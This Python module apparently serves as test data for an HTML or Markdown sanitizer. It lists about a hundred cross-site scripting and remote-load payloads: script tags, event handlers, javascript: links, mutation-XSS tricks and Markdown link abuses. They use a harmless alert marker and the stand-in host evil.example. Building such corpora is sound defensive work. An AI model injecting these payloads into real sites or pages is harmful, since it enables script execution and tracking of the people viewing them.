"""A hundred texts that try to run a script or to load something when they are shown."""

from __future__ import annotations

RUN = "window.pwned=1;alert(1)"
FAR = "https://evil.example"

HTML = [
    f"<script>{RUN}</script>", f"<SCRIPT SRC={FAR}/x.js></SCRIPT>", f"<script>{RUN}//", f"<<script>{RUN}//<</script>",
    f"</p><script>{RUN}</script><p>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script\n>{RUN}</script\n>",
    f"<script type=module>import '{FAR}/x.js'</script>", f"<img src=x onerror={RUN}>", f"<img src={FAR}/beacon.png>",
    f"<img src=x:x onerror='{RUN}'//", f"<IMG \"\"\"><SCRIPT>{RUN}</SCRIPT>\">", f"<img srcset='{FAR}/a.png 1x'>",
    f"<image href={FAR}/a.png onerror={RUN}>", f"<picture><source srcset={FAR}/a.webp><img src=x></picture>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><use href='{FAR}/a.svg#x'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=20 y=20>click</text></a></svg>",
    f"<svg><image href='{FAR}/a.png'/></svg>", f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'>",
    f"<svg><style>@import '{FAR}/a.css';</style></svg>", f"<iframe src={FAR}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data={FAR}/x.swf></object>", f"<embed src={FAR}/x.swf>",
    f"<object data='data:text/html,<script>{RUN}</script>'>", f"<base href={FAR}/>",
    f"<link rel=stylesheet href={FAR}/a.css>", f"<link rel=prefetch href={FAR}/p>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>", f"<meta http-equiv=refresh content='0;javascript:{RUN}'>",
    f"<style>@import '{FAR}/a.css'</style>", f"<style>body{{background:url({FAR}/a.png)}}</style>",
    f"<div style='background:url({FAR}/a.png)'>x</div>", f"<p style=\"animation-name:x\" onanimationstart={RUN}>x</p>",
    f"<form action={FAR}><input type=submit autofocus onfocus={RUN}></form>", f"<input autofocus onfocus={RUN}>",
    f"<button formaction=javascript:{RUN}>x</button>", f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>", f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x onerror={RUN}></video>", f"<video poster={FAR}/p.png></video>",
    f"<audio src={FAR}/a.mp3 autoplay></audio>", f"<video><source onerror={RUN}></video>", f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>", f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<table background={FAR}/a.png><tr><td>x</td></tr></table>", f"<dialog open onclose={RUN}>x</dialog>",
    f"<template><script>{RUN}</script></template>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<xss id=x tabindex=1 onactivate={RUN} autofocus></xss>", f"<isindex action=javascript:{RUN} type=image>",
    f"<portal src={FAR}></portal>", f"<fencedframe src={FAR}></fencedframe>", f"<b onmouseover={RUN}>over me</b>",
]
MUTATION = [
    f"<noscript><style></noscript><img src=x onerror={RUN}>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN}></style></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
    f"<!--><img src=x onerror={RUN}>-->", f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[><script>{RUN}</script>]]>", f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"<title><a id=\"</title><img src=x onerror={RUN}>\">", f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\">",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", f"&lt;img src=x onerror={RUN}&gt;",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    f"<p id='a' name='__proto__'><img name=body onerror={RUN} src=x>",
    f"<a id=document><a id=document name=cookie href=javascript:{RUN}>x</a>", f"\x00<scr\x00ipt>{RUN}</script>",
]
MARKDOWN = [
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](java\tscript:{RUN})", f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})", f"[x](data:text/html,<script>{RUN}</script>)", f"[x](vbscript:{RUN})",
    f"[x][1]\n\n[1]: javascript:{RUN}", f"<javascript:{RUN}>", f"![x]({FAR}/beacon.png)", "![x](//evil.example/b.png)",
    f"![x](javascript:{RUN})", f"![\" onerror=\"{RUN}]({FAR}/b.png)", f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"[x]({FAR}/\"onmouseover=\"{RUN})", f"[x](<{FAR}/> \"title\\\" onclick={RUN} x=\\\"\")",
    f"```html\n</code></pre><script>{RUN}</script>\n```", f"```\"><img src=x onerror={RUN}>\ncode\n```",
    f"`</code><img src=x onerror={RUN}>`", f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"# <svg onload={RUN}>\n\n> <iframe src={FAR}>\n\n- <script>{RUN}</script>", f"~~<img src={FAR}/b.png>~~",
]
OUTPUTS = [*HTML, *MUTATION, *MARKDOWN]
